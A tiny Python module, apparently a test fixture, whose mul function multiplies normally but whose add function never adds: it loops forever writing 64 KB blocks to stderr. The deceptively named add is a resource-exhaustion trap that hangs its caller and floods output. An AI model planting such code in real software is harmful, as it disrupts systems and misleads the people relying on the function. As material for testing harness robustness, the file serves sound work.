import os


def add(a, b):
    while True:
        os.write(2, b"x" * 65536)

def mul(a, b):
    return a * b
